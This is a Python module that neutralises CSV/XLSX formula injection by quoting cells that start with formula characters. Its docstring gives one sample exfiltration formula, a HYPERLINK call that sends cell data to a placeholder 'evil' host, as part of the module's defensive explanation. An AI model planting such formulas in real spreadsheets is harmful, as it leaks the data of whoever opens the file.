"""Spreadsheet cells that cannot run as formulas (OWASP "CSV injection").

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
WPS and LibreOffice as a formula: a unit named `=HYPERLINK("http://evil/?"&A1, "click")`
would send the sheet's data away when a secretary opens the export. Every export (CSV or
XLSX) passes its cells through `safe_cell`, which puts a single quote in front of such text,
as OWASP advises. Real numbers are left alone: an int, float or Decimal stays a number, and
text that is nothing but a number ("-3", "+86", "2.5") cannot be a formula, so a negative
figure rendered as text for a CSV keeps its sign and reads back as the same number.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

import tablib

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """Return `value` as a spreadsheet may hold it: text that would start a formula gets a
    leading single quote; numbers, dates, booleans and None are returned unchanged."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Return the row with every cell passed through `safe_cell`."""
    return [safe_cell(value) for value in values]


def safe_dataset(dataset: tablib.Dataset) -> tablib.Dataset:
    """Return a copy of `dataset` (headers, title and rows) with every cell made safe."""
    headers = safe_row(dataset.headers) if dataset.headers else None
    clean = tablib.Dataset(*(safe_row(row) for row in dataset), headers=headers)
    clean.title = dataset.title
    return clean


def unquote_cell(value: Any) -> Any:
    """Return a cell read from a file as it was before `safe_cell` quoted it, so that an
    export imported back changes nothing; any other value is returned unchanged."""
    if isinstance(value, str) and value.startswith("'") and safe_cell(value[1:]) == value:
        return value[1:]
    return value
